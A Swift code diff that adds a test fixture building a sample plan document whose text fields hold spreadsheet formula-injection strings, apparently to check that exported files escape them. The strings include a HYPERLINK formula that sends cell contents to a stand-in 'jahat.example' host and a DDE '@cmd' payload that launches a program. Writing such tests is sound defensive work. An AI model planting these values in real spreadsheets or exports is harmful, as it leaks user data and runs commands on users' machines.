@@ -53,6 +53,22 @@ enum SamplePlan {
                     ])]),
             ])
     }
+
+    /// The sample plan with texts a spreadsheet would run as formulas, and texts that start with a quote of their own.
+    /// The B06 target of commitment 1's first measure keeps its text (the reporting tests look it up by it).
+    static func withFormulaLikeTexts(code: String = "contoh-2030-2032") -> PlanDocument {
+        var document = document(code: code)
+        document.title = #"=HYPERLINK("https://jahat.example/?d="&A1,"Rencana")"#
+        document.commitments[0].title = "+SUM(1,2)"
+        document.commitments[0].goals[0].text = "-2+3"
+        document.commitments[0].goals[0].measures[0].text = "@cmd|' /C calc'!A0"
+        document.commitments[0].goals[0].measures[0].expectedEvidence = "-5"
+        document.commitments[0].goals[0].measures[0].targets[1].text = "'=tetap teks"
+        document.commitments[0].goals[0].measures[1].text = "'kutipan biasa"
+        document.commitments[0].goals[0].measures[1].targets[0].text = "''=dua kutip"
+        document.commitments[1].goals[0].measures[0].targets[0].text = "=1+1"
+        return document
+    }
 }
 
 import Fluent
